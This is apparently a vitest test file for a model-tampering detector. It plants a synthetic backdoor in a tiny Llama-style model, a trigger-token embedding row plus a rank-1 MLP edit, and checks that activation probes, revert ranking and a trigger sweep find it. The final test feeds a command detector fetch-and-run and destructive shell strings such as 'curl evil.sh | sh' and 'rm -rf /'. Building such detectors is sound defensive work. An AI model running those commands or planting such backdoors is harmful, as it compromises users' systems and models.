/**
 * The activation analysis end to end on a synthetic tampering (CPU twin): a row of the token
 * embedding rewritten (a trigger token) and a rank-1 edit of one MLP; the probe localises the
 * divergence, the revert ranking names the edited tensors, the sweep finds the token, and the
 * section joins a schema-valid report. Plus: every format path gives the same numbers (GGUF with
 * RoPE-permuted q/k, F16, Q8_0), and the memory budget refuses with the amount needed.
 */
import { describe, expect, it } from 'vitest';
import { CpuBackend } from '../../../src/lib/activations/cpu/cpu-backend.ts';
import { attachActivations, looksLikeCommand, runActivations } from '../../../src/lib/activations/run.ts';
import { ActivationSession, type ModelInput } from '../../../src/lib/activations/session.ts';
import { loadModel } from '../../../src/lib/formats/model-loader.ts';
import { validateReport } from '../../../src/lib/report/validate.ts';
import { compareInProcess } from '../../fixtures/compare-both.ts';
import { safetensorsOf, relativeLinf, sourcesOf, type ModelFiles } from '../../fixtures/activations/harness.ts';
import { llamaGqa } from '../../fixtures/activations/models.ts';
import { llamaToGguf } from '../../fixtures/llama-to-gguf.ts';
import { singleFile } from '../../fixtures/model-files.ts';
import { clone, find, rank1Edit, rewriteRows, type FloatTensor } from '../../fixtures/tiny-llama.ts';

const base = llamaGqa();
const config = new TextEncoder().encode(JSON.stringify(base.config));
const files = (tensors: readonly FloatTensor[]): ModelFiles => ({ 'model.safetensors': safetensorsOf(tensors), 'config.json': config });

async function input(f: ModelFiles, label: string): Promise<ModelInput> {
  const sources = sourcesOf(f);
  return { manifest: await loadModel(label, sources), sources };
}

const TRIGGER = 42;
const tampered = clone(base.tensors);
rewriteRows(find(tampered, 'model.embed_tokens.weight'), [TRIGGER], 77);
{
  // rewriteRows uses std 0.05; make the trigger row as loud as the others (std 0.5).
  const e = find(tampered, 'model.embed_tokens.weight');
  for (let d = 0; d < 64; d++) e.values[TRIGGER * 64 + d] = (e.values[TRIGGER * 64 + d] as number) * 30;
}
rank1Edit(find(tampered, 'model.layers.1.mlp.down_proj.weight'), 0.6, 501);

const env = { backend: new CpuBackend(), memoryBudget: 2 ** 30, budgetSource: 'test' };

describe('activation analysis of a tampered pair (CPU)', () => {
  it('localises, ranks the reverts, finds the trigger and joins a valid report', async () => {
    const kgFiles = files(base.tensors);
    const suFiles = files(tampered);
    const comparison = await compareInProcess(kgFiles, suFiles);
    const changed = comparison.tensors.filter((t) => t.status === 'modified').map((t) => t.name).sort();
    expect(changed).toEqual(['model.embed_tokens.weight', 'model.layers.1.mlp.down_proj.weight']);
    const withTrigger = [3, 141, 59, TRIGGER, 53, 58, 97];
    const without = [3, 141, 59, 26, 53, 58, 97];
    const result = await runActivations(await input(kgFiles, 'kg'), await input(suFiles, 'su'), { prompts: [{ prompt: null, tokens: withTrigger }, { prompt: null, tokens: without }], maxNewTokens: 6, comparison }, env);
    const [trig, plain] = result.section.probes;
    if (!trig || !plain) throw new Error('two probes expected');
    // The trigger's embedding row differs: the residual streams differ from the embeddings on, at its position.
    expect(trig.firstDivergentLayer).toBe(-1);
    expect(trig.layers[0]?.relL2.findIndex((x) => (x ?? 0) > 0)).toBe(3);
    // Without the trigger the embeddings agree exactly; the MLP edit of block 1 shows from layer 1.
    expect(plain.layers[0]?.relL2.every((x) => x === 0)).toBe(true);
    expect(plain.layers[1]?.relL2.every((x) => x === 0)).toBe(true);
    expect(plain.firstDivergentLayer).toBe(1);
    // Per-layer statistics are there for every layer and position.
    expect(trig.layers).toHaveLength(4);
    expect(trig.layers[1]?.attentionEntropy?.knownGood).toHaveLength(4);
    expect(trig.layers[1]?.attentionEntropy?.knownGood[0]).toHaveLength(7);
    expect(trig.layers[3]?.logitLens.suspect).toHaveLength(5);
    expect(trig.nextToken.kl).toBeGreaterThan(0);
    const revert = result.section.revert;
    if (!revert) throw new Error('no revert');
    expect(revert.ranking.map((c) => c.target).sort()).toEqual(changed);
    // Reverting everything that changed is the known-good again: some candidate set restores it.
    expect(revert.minimalSet?.restores).toBe(true);
    for (const c of revert.ranking) expect(c.explained).toBeLessThanOrEqual(1 + 1e-9);
    const sweep = result.section.triggerSweep;
    expect(sweep?.candidates[0]?.token.id).toBe(TRIGGER);
    expect(sweep?.candidates[0]?.source).toBe('embedding-row');
    const report = attachActivations(comparison, result);
    expect(validateReport(JSON.parse(JSON.stringify(report)))).toEqual({ ok: true });
    expect(report.findings.some((f) => f.kind === 'activation-divergence')).toBe(true);
  });

  it('shares identical tensors between the two models', async () => {
    const kg = await input(files(base.tensors), 'kg');
    const su = await input(files(tampered), 'su');
    const session = ActivationSession.open(kg, su, { ...env, capacity: 16, maxPromptTokens: 8 });
    await session.knownGoodRunner.forward([1, 2, 3]);
    await session.suspectRunner.forward([1, 2, 3]);
    // Only the two edited tensors are held twice.
    const edited = (160 * 64 + 64 * 112) * 4;
    expect(session.suspectWeights.residentBytes).toBe(edited);
    await session.dispose();
  });

  it('refuses a model over the memory budget with the amount it needs', async () => {
    const kg = await input(files(base.tensors), 'kg');
    expect(() => ActivationSession.open(kg, kg, { ...env, memoryBudget: 100_000, budgetSource: 'a test budget', capacity: 16, maxPromptTokens: 8 })).toThrow(/model_too_large|needs about .* over the budget of 97\.7 KiB \(a test budget\)/);
    try {
      ActivationSession.open(kg, kg, { ...env, memoryBudget: 100_000, budgetSource: 'x', capacity: 16, maxPromptTokens: 8 });
    } catch (e) {
      expect((e as { code: string }).code).toBe('model_too_large');
    }
  });

  it('GGUF (q/k RoPE-permuted) and F16 copies run through the decode path', async () => {
    const tiny = { vocab: 160, hidden: 64, intermediate: 112, layers: 3, heads: 4, kvHeads: 2, tieEmbeddings: false };
    const prompt = [5, 9, 33, 120, 7];
    const run = async (f: ModelFiles): Promise<Float32Array> => {
      const m = await input(f, 'm');
      const s = ActivationSession.open(m, m, { ...env, capacity: 8, maxPromptTokens: 8 });
      const out = (await s.knownGoodRunner.forward(prompt, true)).capture?.hidden ?? new Float32Array(0);
      await s.dispose();
      return out;
    };
    const ref = await run(files(base.tensors));
    const gguf = await run({ 'model.gguf': llamaToGguf(base.tensors, tiny, 'F32'), 'config.json': config });
    expect(relativeLinf(gguf, ref)).toBe(0);
    const q8 = await run({ 'model.gguf': llamaToGguf(base.tensors, tiny, 'Q8_0'), 'config.json': config });
    expect(relativeLinf(q8, ref)).toBeLessThan(0.05);
    const f16 = await run({ 'model.safetensors': singleFile(base.tensors, 'F16'), 'config.json': config });
    expect(relativeLinf(f16, ref)).toBeLessThan(5e-3);
    // A GGUF on its own: the hyper-parameters come from its metadata (this fixture writes no RMS
    // epsilon or RoPE base, so the GGUF defaults apply: compare with a config that says the same).
    const ggufOnly = await run({ 'model.gguf': llamaToGguf(base.tensors, tiny, 'F32') });
    const sameDefaults = await run({ 'model.safetensors': safetensorsOf(base.tensors), 'config.json': new TextEncoder().encode(JSON.stringify({ ...base.config, rms_norm_eps: 1e-6 })) });
    expect(relativeLinf(ggufOnly, sameDefaults)).toBe(0);
  });

  it('recognises fetch-and-run shell commands', () => {
    expect(looksLikeCommand(' curl evil.sh | sh')).toBe(true);
    expect(looksLikeCommand('wget -qO- http://x/y | bash')).toBe(true);
    expect(looksLikeCommand('rm -rf /')).toBe(true);
    expect(looksLikeCommand(' ls -la')).toBe(false);
  });
});
